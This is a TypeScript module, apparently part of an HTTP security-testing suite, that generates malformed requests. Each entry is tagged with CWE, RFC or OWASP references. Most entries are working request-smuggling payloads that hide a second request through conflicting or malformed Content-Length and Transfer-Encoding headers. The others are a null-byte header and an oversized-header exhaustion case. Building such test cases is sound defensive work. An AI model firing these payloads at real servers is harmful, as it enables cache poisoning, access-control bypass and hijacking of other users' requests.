import type { Attack } from '../attack';

/** A message whose end two programs may see at different places, or that is no message at all. */
export interface Broken extends Pick<Attack, 'name' | 'action' | 'standards'> {
  /** What follows the first headers of a good request: the last ones, its body, and a request that hides behind it. */
  readonly rest: (body: string, smuggled: string) => string;
}

const SMUGGLING = ['CWE-444', 'RFC 9112 section 6.3'];
const HEADERS = ['CWE-444', 'RFC 9112 section 5'];
const LONG = 64 * 1024;

const chunked = (body: string, length = body.length.toString(16)) => `${length}\r\n${body}\r\n0\r\n\r\n`;

/** What a good request ends with. */
export const whole: Broken['rest'] = (body) => `content-length: ${body.length}\r\n\r\n${body}`;

/** Messages that are broken in one place each. */
export const BROKEN: readonly Broken[] = [
  {
    name: 'Content-Length and Transfer-Encoding in one request',
    action: 'hides a second request where only one of the two lengths ends the first',
    standards: SMUGGLING,
    rest: (body, smuggled) => {
      const chunks = chunked(body);
      const length = chunks.length + smuggled.length;
      return `content-length: ${length}\r\ntransfer-encoding: chunked\r\n\r\n${chunks}${smuggled}`;
    },
  },
  {
    name: 'two different Content-Length',
    action: 'hides a second request behind the shorter of two lengths',
    standards: SMUGGLING,
    rest: (body, smuggled) => `content-length: ${body.length + smuggled.length}\r\n${whole(body, smuggled)}${smuggled}`,
  },
  {
    name: 'an unknown transfer coding',
    action: 'names a transfer coding that some programs read as chunked and others ignore',
    standards: SMUGGLING,
    rest: (body, smuggled) => `transfer-encoding: xchunked\r\n\r\n${chunked(body)}${smuggled}`,
  },
  {
    name: 'chunks of no length',
    action: 'sends chunks whose length is no number',
    standards: SMUGGLING,
    rest: (body, smuggled) =>
      `transfer-encoding: chunked\r\n\r\n${chunked(body, `0x${body.length.toString(16)}`)}${smuggled}`,
  },
  {
    name: 'a Content-Length with a sign',
    action: 'sends a length with a plus, which some programs read as a number and others as none',
    standards: SMUGGLING,
    rest: (body, smuggled) => `content-length: +${body.length}\r\n\r\n${body}${smuggled}`,
  },
  {
    name: 'a folded header',
    action: 'continues a header on the next line, which one program reads as a header of its own',
    standards: HEADERS,
    rest: (body, smuggled) => `x-a: b\r\n transfer-encoding: chunked\r\n${whole(body, smuggled)}${smuggled}`,
  },
  {
    name: 'a space before the colon of a header',
    action: 'hides `Transfer-Encoding` from programs that take the space for a part of the name',
    standards: HEADERS,
    rest: (body, smuggled) => `transfer-encoding : chunked\r\n${whole(body, smuggled)}${smuggled}`,
  },
  {
    name: 'a null byte in a header',
    action: 'ends a header early for programs that read texts of C',
    standards: ['CWE-158', 'CWE-444'],
    rest: (body, smuggled) => `x-a: b\0c\r\n${whole(body, smuggled)}`,
  },
  {
    name: 'headers of 64 KiB',
    action: 'sends more headers than anything behind the edge should have to keep',
    standards: ['OWASP API4:2023', 'CWE-770'],
    rest: (body, smuggled) => `x-a: ${'b'.repeat(LONG)}\r\n${whole(body, smuggled)}`,
  },
];
